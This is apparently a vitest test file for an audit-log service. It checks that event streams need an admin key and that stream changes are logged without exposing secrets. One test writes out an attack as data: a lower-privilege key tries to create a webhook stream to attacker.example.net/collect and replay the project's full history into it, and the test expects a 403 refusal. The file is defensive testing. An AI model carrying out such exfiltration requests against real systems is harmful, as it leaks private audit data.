/**
 * Issue #23, streams: a stream can send the project's whole history wherever
 * it points, so creating, replaying and deleting one needs an admin key, and
 * each is recorded in the project's own chain as witness.stream.*.
 */
import { env } from "cloudflare:workers";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { call, createProject, createScopedKey, ingestMany } from "../helpers";
import { createStream, events, Network, waitFor } from "./receiver";

const HOST = "siem.acme-audited.com";
let net: Network;
let restore: () => void;
beforeEach(() => {
  net = new Network();
  net.dns.set(HOST, ["93.184.216.34"]);
  net.dns.set("attacker.example.net", ["93.184.216.35"]);
  restore = net.install();
});
afterEach(() => restore());

/** Every witness.* event of the project, oldest first, read through the API. */
async function selfAudit(key: string) {
  const res = await call("GET", "/v1/events?limit=100", { key });
  expect(res.status).toBe(200);
  return (res.json.data as any[]).filter((e) => e.action.startsWith("witness.")).reverse();
}

async function verifyOk(key: string) {
  const res = await call("GET", "/v1/events/verify", { key });
  expect(res.status).toBe(200);
  expect(res.json.data).toMatchObject({ ok: true, failure: null });
}

describe("stream changes need an admin key", () => {
  it("with a read or an ingest key, creating, replaying and deleting change nothing", async () => {
    const p = await createProject();
    const existing = await createStream(p.key, { type: "webhook", url: `https://${HOST}/feed` });
    await ingestMany(p.key, events(5));
    await waitFor(p.key, existing.id, (x) => x.delivered_seq === existing.delivered_seq + 5);
    const before = await waitFor(p.key, existing.id, () => true);
    const received = net.received.length;

    for (const scope of ["read", "ingest"] as const) {
      const { key } = await createScopedKey(p.id, [scope]);
      // The attack: a stream of one's own, then the whole history replayed into it.
      const create = await call("POST", "/v1/streams", { key, body: { type: "webhook", url: "https://attacker.example.net/collect" } });
      expect(create.status, scope).toBe(403);
      expect(create.json.error).toMatchObject({ code: "FORBIDDEN", details: { required_scope: "admin" } });
      const replay = await call("POST", `/v1/streams/${existing.id}/replay`, { key, body: { from_seq: 1 } });
      expect(replay.status, scope).toBe(403);
      const remove = await call("DELETE", `/v1/streams/${existing.id}`, { key });
      expect(remove.status, scope).toBe(403);
    }

    const rows = await env.DB.prepare("SELECT id, url FROM streams WHERE project_id = ?").bind(p.id).all();
    expect(rows.results).toEqual([{ id: existing.id, url: `https://${HOST}/feed` }]);
    // Not replayed: the cursor stayed, and nothing was sent again.
    await new Promise((r) => setTimeout(r, 300));
    const after = await waitFor(p.key, existing.id, () => true);
    expect(after).toMatchObject({ status: "active", delivered_seq: before.delivered_seq });
    expect(net.received.length).toBe(received);
    expect(net.at("attacker.example.net")).toEqual([]);
    expect((await selfAudit(p.key)).map((e) => e.action)).toEqual(["witness.stream.created"]);
  });
});

describe("stream changes are recorded in the project's chain", () => {
  it("records created, replayed and deleted, naming the admin key, with no secret or token", async () => {
    const p = await createProject();
    const { key: admin, prefix } = await createScopedKey(p.id, ["admin"]);
    await ingestMany(p.key, events(3));
    // Refused requests change nothing and record nothing.
    expect((await call("POST", "/v1/streams", { key: admin, body: { type: "webhook", url: "https://10.0.0.1/" } })).status).toBe(400);
    expect((await call("DELETE", "/v1/streams/str_nope", { key: admin })).status).toBe(404);
    expect((await call("POST", "/v1/streams/str_nope/replay", { key: admin, body: { from_seq: 1 } })).status).toBe(404);
    const hook = await createStream(admin, { type: "webhook", url: `https://${HOST}/in?api_key=query-secret-1`, filter: { actions: ["user.*"] } });
    const token = `hec-${crypto.randomUUID()}`;
    const splunk = await createStream(admin, { type: "splunk", url: `https://${HOST}/services/collector/event`, token });
    const replay = await call("POST", `/v1/streams/${hook.id}/replay`, { key: admin, body: { from_seq: 2 } });
    expect(replay.status).toBe(202);
    expect((await call("DELETE", `/v1/streams/${splunk.id}`, { key: admin })).status).toBe(204);

    const audit = await selfAudit(p.key);
    expect(audit.map((e) => [e.action, e.targets])).toEqual([
      ["witness.stream.created", [{ type: "stream", id: hook.id, name: null }]],
      ["witness.stream.created", [{ type: "stream", id: splunk.id, name: null }]],
      ["witness.stream.replayed", [{ type: "stream", id: hook.id, name: null }]],
      ["witness.stream.deleted", [{ type: "stream", id: splunk.id, name: null }]],
    ]);
    for (const e of audit) expect(e.actor).toMatchObject({ type: "api_key", id: prefix });
    expect(audit[0].metadata).toEqual({ type: "webhook", url: `https://${HOST}/in`, filter: { actions: ["user.*"] } });
    expect(audit[1].metadata).toEqual({ type: "splunk", url: `https://${HOST}/services/collector/event`, filter: {} });
    expect(audit[2].metadata).toEqual({ type: "webhook", url: `https://${HOST}/in`, from_seq: 2 });
    expect(audit[3].metadata).toEqual({ type: "splunk", url: `https://${HOST}/services/collector/event` });
    // A stream delivers from its own record on: the creation record's seq is where it started.
    expect(audit[0].seq).toBe(hook.delivered_seq);
    expect(audit[1].seq).toBe(splunk.delivered_seq);

    const everything = (await call("GET", "/v1/events?limit=100", { key: p.key })).text;
    for (const secret of [hook.secret, hook.secret.slice(6), token, "query-secret-1"]) expect(everything).not.toContain(secret);
    await verifyOk(p.key);
    // Searchable like any event.
    const found = await call("GET", "/v1/events?action=witness.stream.deleted", { key: p.key });
    expect(found.json.data.map((e: any) => e.targets[0].id)).toEqual([splunk.id]);
  });
});
